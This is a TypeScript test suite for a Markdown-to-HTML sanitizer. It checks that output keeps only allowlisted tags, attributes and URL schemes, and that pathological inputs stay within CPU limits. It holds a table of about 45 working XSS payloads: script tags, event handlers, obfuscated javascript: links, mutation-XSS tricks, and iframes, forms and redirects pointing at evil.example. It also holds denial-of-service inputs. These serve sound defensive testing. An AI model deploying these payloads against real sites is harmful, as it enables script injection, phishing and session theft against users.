import { renderBody } from './render-body.js';

const htmlOf = (markdown: string) => {
  try {
    return renderBody(markdown).html;
  } catch (error) {
    if ((error as Error).message === 'POST_BODY_EMPTY') return '';
    throw error;
  }
};

/** Everything in the HTML that could act: the names of its tags, its attributes and their values. */
function partsOf(html: string) {
  const tags = [...html.matchAll(/<\/?\s*([^\s>/]+)([^>]*)>/g)];
  return {
    tags: new Set(tags.map(([, name]) => name)),
    attributes: tags.flatMap(([, , rest = '']) => [...rest.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, k, v]) => [k, v])),
    leftovers: tags
      .map(([, , rest = '']) =>
        rest
          .replaceAll(/\s*[^\s=]+="[^"]*"/g, '')
          .replace('/', '')
          .trim(),
      )
      .join(''),
  };
}

const SAFE_TAGS =
  'p br hr h2 h3 h4 h5 h6 blockquote ul ol li pre code strong em del b i s u a table thead tbody tr th td'.split(' ');

const SAFE_ATTRIBUTES = ['href', 'rel', 'target', 'start', 'align'];

const HOSTILE: Record<string, string> = {
  'a script': '<script>alert(1)</script>文',
  'a script in odd case, unclosed': '<ScRiPt>alert(1)//文',
  'a script from elsewhere': '<script src=//evil.example/x.js></script>文',
  'a nested script': '<scr<script>ipt>alert(1)</scr</script>ipt>文',
  'an event attribute': '<p onclick="alert(1)">文</p>',
  'an event attribute without quotes or spaces': '<img/src/onerror=alert(1)>文',
  'an image that fails': '<img src=x onerror=alert(1)>文',
  'a Markdown image': '![文](https://evil.example/pixel.gif)',
  'a Markdown image with a script': '![文](javascript:alert(1))',
  'an image that breaks out of its description': '!["><script>alert(1)</script>](x)文',
  'a javascript link': '[文](javascript:alert(1))',
  'a javascript link in odd case with a tab': '<a href="jAvA\tscript:alert(1)">文</a>',
  'a javascript link in entities': '<a href="&#106;avascript&colon;alert(1)">文</a>',
  'a javascript link behind control characters': '<a href="\u0001\u0002javascript:alert(1)">文</a>',
  'a javascript autolink': '<javascript:alert(1)>文',
  'a javascript reference link': '[文][x]\n\n[x]: javascript:alert(1)',
  'a data link': '[文](data:text/html;base64,PHNjcmlwdD4=)',
  'a vbscript link': '[文](vbscript:msgbox(1))',
  'a file link': '[文](file:///etc/passwd)',
  'a link to wherever the page is': '[文](//evil.example/login)',
  'a link with backslashes': '<a href="/\\evil.example">文</a>',
  'a link with a password': '[文](https://bank.example@evil.example/)',
  'a link whose title breaks out': '[文](https://a.example "x\\" onmouseover=\\"alert(1)")',
  'an iframe': '<iframe src="https://evil.example"></iframe>文',
  'an iframe with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>文',
  'a style sheet': '<style>*{display:none}</style>文',
  'a style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example)">文</p>',
  'a form': '<form action="https://evil.example"><input name=p><button>文</button></form>',
  'an object and an embed': '<object data="x.swf"></object><embed src="x.swf">文',
  'svg with a script': '<svg><script>alert(1)</script><animate onbegin=alert(1)></svg>文',
  'svg that mutates': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">文',
  'math that mutates': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>文',
  'a base address': '<base href="https://evil.example/">文',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">文',
  'an id that shadows': '<a id=location name=location>文</a>',
  'a class of the page': '<p class="banner banner--official">文</p>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->文',
  'a CDATA section': '<![CDATA[<script>alert(1)</script>]]>文',
  'a template': '<template><img src=x onerror=alert(1)></template>文',
  'noscript that mutates': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">文',
  'a textarea that mutates': '<textarea></textarea><img src=x onerror=alert(1)>文',
  'code that names a language': '```"><script>alert(1)</script>\n文\n```',
  'inline code with HTML': '`<img src=x onerror=alert(1)>`文',
  'a table with HTML in it': '|a|\n|-|\n|<img src=x onerror=alert(1)>文|',
  'an ordered list with a hostile start': '<ol start="1" onfocus=alert(1) autofocus><li>文</li></ol>',
  'a NUL in a tag': '<scr\u0000ipt>alert(1)</scr\u0000ipt>文',
};

describe('a body', () => {
  it.each(Object.entries(HOSTILE))('is clean after %s', (_, markdown) => {
    const html = htmlOf(markdown);
    const { tags, attributes, leftovers } = partsOf(html);
    expect([...tags].filter((tag) => !SAFE_TAGS.includes(tag ?? ''))).toEqual([]);
    expect(leftovers).toBe('');
    expect(attributes.map(([name]) => name).filter((name) => !SAFE_ATTRIBUTES.includes(name ?? ''))).toEqual([]);
    const addresses = attributes.flatMap(([name, value]) => (name === 'href' ? [value] : []));
    expect(addresses.filter((href) => !/^(https?:\/\/(?!.*@)|mailto:|tel:)/.test(href ?? ''))).toEqual([]);
  });

  it('keeps its words after most of it', () => {
    const kept = Object.entries(HOSTILE).filter(([, markdown]) => htmlOf(markdown).includes('文'));
    expect(kept.length).toBeGreaterThan(35);
  });

  it('would not be clean without the cleaning (the control)', async () => {
    const { markdownToHtml } = await import('./markdown-to-html.js');
    expect(markdownToHtml(HOSTILE['an image that fails'] as string)).toContain('onerror');
    expect(markdownToHtml(HOSTILE['a javascript link'] as string)).toContain('javascript:');
  });

  it('can have what a notice needs', () => {
    const markdown = [
      '# 通知\n## 时间',
      '**3月8日**至*10日*，~~9:00~~ 9:30\n第二行',
      '- 一\n- 二\n\n1. 甲\n2. 乙',
      '> 引用',
      '| 日期 | 地点 |\n|:--|--:|\n| 8日 | 一楼 |',
      '[报名](https://example.org/a?b=1&c=2) [电话](tel:010-12345) <union@example.org>',
      '---\n`代码`',
    ].join('\n\n');
    expect(htmlOf(markdown)).toBe(
      [
        '<h2>通知</h2>\n<h2>时间</h2>',
        '<p><strong>3月8日</strong>至<em>10日</em>，<del>9:00</del> 9:30<br />第二行</p>',
        '<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n<ol>\n<li>甲</li>\n<li>乙</li>\n</ol>',
        '<blockquote>\n<p>引用</p>\n</blockquote>',
        '<table>\n<thead>\n<tr>\n<th align="left">日期</th>\n<th align="right">地点</th>\n</tr>\n</thead>\n' +
          '<tbody><tr>\n<td align="left">8日</td>\n<td align="right">一楼</td>\n</tr>\n</tbody></table>',
        '<p><a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">报名</a> ' +
          '<a href="tel:010-12345" target="_blank" rel="noopener noreferrer nofollow">电话</a> ' +
          '<a href="mailto:union@example.org" target="_blank" rel="noopener noreferrer nofollow">union@example.org</a></p>',
        '<hr />\n<p><code>代码</code></p>',
      ].join('\n'),
    );
  });

  it('needs something to read', () => {
    for (const nothing of [
      '',
      '   ',
      '---',
      '<script>1</script>',
      '[](https://a.example)',
      '\u200b\u2060',
      '[x]: https://a.example',
    ]) {
      expect(() => renderBody(nothing)).toThrow('POST_BODY_EMPTY');
    }
  });

  it('is stored as it was written, but for control characters and line ends', () => {
    expect(renderBody('a\r\nb\u0000\u0007\tc\r贯通').markdown).toBe('a\nb\tc\n贯通');
  });

  const outcomeOf = (markdown: string): string => {
    try {
      return Buffer.byteLength(renderBody(markdown).html) <= 600_000 ? 'a message' : 'more than a message';
    } catch (error) {
      return (error as Error).message;
    }
  };
  const repeat = (text: string, length = 50_000) => text.repeat(Math.ceil(length / text.length)).slice(0, length);
  it.each(
    Object.entries({
      quotes: repeat('>'),
      'quotes with spaces': repeat('> '),
      'numbered lists in lists': repeat('1. '),
      'lists in lists': Array.from({ length: 200 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n'),
      'a table with 2,000 columns': `${repeat('a|', 4000)}\n${repeat('-|', 4000)}\n${repeat('a\n', 40_000)}`,
      brackets: repeat('['),
      'images in images': repeat('!['),
      emphasis: repeat('a*'),
      'strong emphasis': repeat('**a '),
      backticks: repeat('`a'),
      spaces: `a${repeat(' ', 49_998)}b`,
      'angle brackets': repeat('<a '),
      comments: `a${repeat('<!--')}`,
      addresses: repeat('a.b@c.'),
      'unclosed tags': repeat('<div>'),
    }),
  )(
    'of nothing but %s takes no more than five seconds of processor time and grows to no more than a message',
    (_, markdown) => {
      const before = process.cpuUsage();
      const outcome = outcomeOf(markdown);
      expect(process.cpuUsage(before).user / 1000).toBeLessThan(5000);
      expect(outcome).toMatch(/^(a message|POST_BODY_TOO_COMPLEX|POST_BODY_EMPTY)$/);
    },
  );
});
